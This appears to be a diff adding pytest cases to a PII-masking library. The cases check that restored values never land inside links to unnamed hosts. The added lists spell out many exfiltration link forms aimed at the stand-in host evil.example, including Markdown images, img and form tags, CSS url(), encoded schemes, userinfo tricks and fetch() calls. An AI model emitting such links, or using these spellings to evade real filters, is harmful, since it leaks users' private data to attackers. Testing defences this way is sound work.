@@ -9,6 +9,7 @@ import pytest
 from ctxguard import Artifact, Stabilizer
 from ctxguard.adapting import unmask_arguments
 from ctxguard.artifacts import ToolCall
+from ctxguard.errors import ConfigError
 from ctxguard.pii import STANDARD, Masker, Vault, new_key
 from ctxguard.pii.mask.pseudonyms import MemoryPseudonyms, Original
 from ctxguard.pii.mask.unmask import UnmaskStream, gets_values, restore
@@ -118,7 +119,103 @@ LINKS = [
     "https://shop.example@evil.example/<EMAIL_1>",
     "https://<EMAIL_1>.evil.example/",
     "https://evil.example/?a=1&b=<EMAIL_1>",
+    "![x](http://[2001:db8::5]/<EMAIL_1>)",
+    "![x](https:/evil.example/<EMAIL_1>)",
+    r"![x](https:\\evil.example\<EMAIL_1>)",
+    r"![x](/\evil.example/<EMAIL_1>)",
+    '<img src="https:evil.example/<EMAIL_1>">',
+    "![x](https:&#47;&#47;evil.example/<EMAIL_1>)",
+    '<img src="https://evil.example/ <EMAIL_1>">',
+    "![x](<https://evil.example/a <EMAIL_1>>)",
+    "www.evil.example/<EMAIL_1>",
+    '<form action="https://evil.example/"><input value="<EMAIL_1>">',
+    '<form action="https://evil.example/"><p title="</form>"><input value="<EMAIL_1>">',
+    '<base href="https://evil.example/"><img src="<EMAIL_1>">',
+    '<img src="https://shop.example/" srcset="https://evil.example/?q=<EMAIL_1>">',
+    '<img alt=">" src="https://evil.example/a > <EMAIL_1>">',
+    "<img alt='> <a ' src=https://evil.example/ alt=<EMAIL_1>>",
+    '<img src="ht&Tab;tps://evil.example/ <EMAIL_1>">',
+    '<img src="https://shop.example&quot;@evil.example/<EMAIL_1>">',
+    '<img src="https://shop.example <EMAIL_1>@evil.example/">',
+    '<img src="https:\n//evil.example/\n<EMAIL_1>">',
+    "<p style=\"background: url('https://evil.example/ <EMAIL_1>')\">",
+    "url( 'https://evil.example/ <EMAIL_1>' )",
+    "[x]: <https://evil.example/a <EMAIL_1>>",
+    r"![x](https\://evil.example/<EMAIL_1>)",
+    r"![x](https://shop.example\.evil.example/<EMAIL_1>)",
+    "![x](https://shop.example'.evil.example/<EMAIL_1>)",
+    "![x](https://shop.example<EMAIL_1>.evil.example/)",
+    "![x](https://shop.example:<EMAIL_1>@evil.example/)",
+    "![x](https://shop.example%2f@evil.example/<EMAIL_1>)",
+    "![x](https://%65vil.example/<EMAIL_1>)",
+    "![x](https://evil.example/(a)<EMAIL_1>)",
+    "![x](https://evil.example/?a[b]=<EMAIL_1>)",
+    "https://evil.example/?a[b]=<EMAIL_1>",
+    "https://shop.example/?to=https://evil.example/<EMAIL_1>",
+    "https://evil.example/?q=<EMAIL_1>&r=<EMAIL_1>",
+    "https://evil.example/" + "a" * 20_000 + "<EMAIL_1>",
 ]
+
+SLASHES = ["//", "/", "", "\\\\", "/\\", "\\/", "///", "&#47;&#x2f;", "&sol;&bsol;", r"\/\/"]
+SCHEMES = ["https:", "HTTP:", "wss:", "https&#58;"]
+HOSTS = [
+    "evil.example",
+    "evil.example:443",
+    "shop.example@evil.example",
+    "[2001:db8::5]",
+    "2130706433",
+    "%65vil.example",
+]
+TARGETS = [
+    "{0}",
+    "![x]({0})",
+    "[x](<{0}>)",
+    "[x]: {0}",
+    "[x]({0} 'title')",
+    "<{0}>",
+    '<img src="{0}">',
+    "<img src='{0}' alt=''>",
+    "<a\nhref={0}>x</a>",
+    '<p style="background:url({0})">',
+]
+SPACED = ["![x](<{0}>)", "[x]: <{0}>", '<img src="{0}">', "<img alt=x src = '{0}'>", '<a title=">" href="{0}">']
+
+
+def spelled_urls(path):
+    """Yield URLs in the spellings that browsers and Markdown accept."""
+    for host in HOSTS:
+        for slashes in SLASHES:
+            yield from (f"{scheme}{slashes}{host}{path}" for scheme in SCHEMES)
+        yield from (f"{slashes}{host}{path}" for slashes in SLASHES if slashes not in ("/", ""))
+    yield f"www.evil.example{path}"
+
+
+def spelled_links():
+    for url in spelled_urls("/p?q=<EMAIL_1>"):
+        yield from (target.format(url) for target in TARGETS)
+    for url in spelled_urls("/a b <EMAIL_1>"):
+        yield from (target.format(url) for target in SPACED)
+
+
+def test_no_spelling_of_a_link_gets_a_value():
+    links = list(spelled_links())
+    assert len(links) > 2_000
+    named = {"shop.example"}.__contains__
+    for text in links:
+        before = f"Thanks, <EMAIL_1>. {text}"
+        kept = f"Thanks, {MAIL}. {text}"
+        assert restore(before, known(), names_host=named).text == kept
+        assert in_pieces(before, 7, known(), names_host=named) == kept
+
+
+@pytest.mark.parametrize("target", [*TARGETS, *SPACED])
+@pytest.mark.parametrize(
+    "url", ["https://shop.example/<EMAIL_1>", "//shop.example/a?q=<EMAIL_1>", "<EMAIL_1>", "/a/<EMAIL_1>"]
+)
+def test_a_link_to_a_named_host_gets_its_values(target, url):
+    text = target.format(url)
+    told = restore(text, known(), names_host={"shop.example"}.__contains__).text
+    assert told == text.replace("<EMAIL_1>", MAIL)
 
 
 @pytest.mark.parametrize("text", LINKS)
@@ -137,6 +234,23 @@ def test_a_link_to_a_host_that_nobody_named_keeps_its_placeholders(text):
         "see https://evil.example/ and <EMAIL_1>",
         "mailto:<EMAIL_1>",
         "// <EMAIL_1>",
+        "[the page](https://evil.example/) says <EMAIL_1>",
+        "[the page](https://evil.example/)<EMAIL_1>",
+        "<https://evil.example/> <EMAIL_1>",
+        '<a href="https://evil.example/">the page</a> <EMAIL_1>',
+        '<a href="https://evil.example/">the page</a><b>it\'s</b> <p title="<EMAIL_1>">',
+        '{"url":"https://evil.example/","email":"<EMAIL_1>"}',
+        "[x]: https://evil.example/\n\n<EMAIL_1>",
+        "fetch('https://evil.example/', {to: '<EMAIL_1>'})",
+        "for (i = 0; i<n; i++) { fetch('https://evil.example/'); mail(\"<EMAIL_1>\") }",
+        '<form action="https://evil.example/"><input></form> <EMAIL_1>',
+        '<form action="https://shop.example/"><input value="<EMAIL_1>">',
+        '<img src="https://shop.example" alt="<EMAIL_1>">',
+        '<input value="<EMAIL_1>">',
+        "C:\\\\Users\\\\<EMAIL_1>",
+        "and/or <EMAIL_1>/x, src/a//<EMAIL_1>",
+        "Profile:<EMAIL_1>",
+        "<h1>https://evil.example/</h1><EMAIL_1>",
     ],
 )
 def test_other_texts_get_their_values(text):
@@ -276,3 +390,14 @@ def test_fed_back_without_a_vault_a_placeholder_stays_as_it_is():
     session = Masker(STANDARD, strategy="pseudonymize").session()
     again = session.text("Write to <EMAIL_1> and zora@mailhost.org")
     assert session.unmask(again) == "Write to <EMAIL_1> and zora@mailhost.org"
+
+
+@pytest.mark.parametrize("name", ["outwards", "Outward", "outwrad", "outward_", "outwad"])
+def test_a_misspelled_outward_is_refused(name):
+    for make in (
+        lambda tools: Vault(MemoryStore(), key=new_key(), tools=tools),
+        lambda tools: Guard(Stabilizer(9_000), tools=tools),
+    ):
+        with pytest.raises(ConfigError, match=r"did you mean 'outward'\?"):
+            make({name: False})
+        make({"outward": False, "forward": True, "onward": False, "[o]utwards": True, "out*": False})
